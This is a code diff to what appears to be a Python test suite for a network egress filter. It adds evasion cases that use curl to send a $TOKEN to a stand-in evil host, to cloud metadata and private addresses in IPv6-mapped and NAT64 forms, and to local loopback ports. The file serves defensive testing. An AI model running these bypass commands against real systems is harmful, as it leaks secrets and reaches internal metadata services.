@@ -171,6 +171,11 @@ def addresses():
         yield Evasion(f"an address whose name is denied, {form}", DENIED, f"{CURL} http://{number(EVIL, form)}/$TOKEN", "^evil: ")
         yield Evasion(f"the metadata of a cloud, {form}", open_to_all(), f"{CURL} http://{number(METADATA, form)}/$TOKEN", "^metadata: ", control=False)
     yield Evasion("an address in IPv6", ALLOWED, f"{CURL} 'http://[::ffff:{EVIL}]/$TOKEN'", "^evil: ")
+    audited = open_to_all(audit=True)
+    for name, address in [("a private address", PRIVATE), ("the metadata of a cloud", METADATA), ("a private address in IPv6", f"[::ffff:{PRIVATE}]")]:
+        yield Evasion(f"{name}, with an audit", audited, f"{CURL} 'http://{address}/$TOKEN'", "^(private|metadata): ", control=False)
+    yield Evasion("the machine's own loopback, with an audit", audited, f"{CURL} http://127.0.0.1:$API_PORT/readyz", "^never", control=False, unsaid="(?i)ready|ok")
+    yield Evasion("the machine's own address, with an audit", audited, f"{INSIDE} connect 192.0.2.7 $API_PORT", "^never", control=False, unsaid="HTTP/1.1")
     yield Evasion("a private address in IPv6", open_to_all(), f"{CURL} 'http://[::ffff:{PRIVATE}]/$TOKEN'", "^private: ", control=False)
     yield Evasion("an address by NAT64", ALLOWED, f"{CURL} 'http://[64:ff9b::{EVIL}]/$TOKEN'", "^evil: ", control=False)
     yield Evasion("a private address by NAT64", open_to_all(), f"{CURL} 'http://[64:ff9b::{PRIVATE}]/$TOKEN'", "^private: ", control=False)
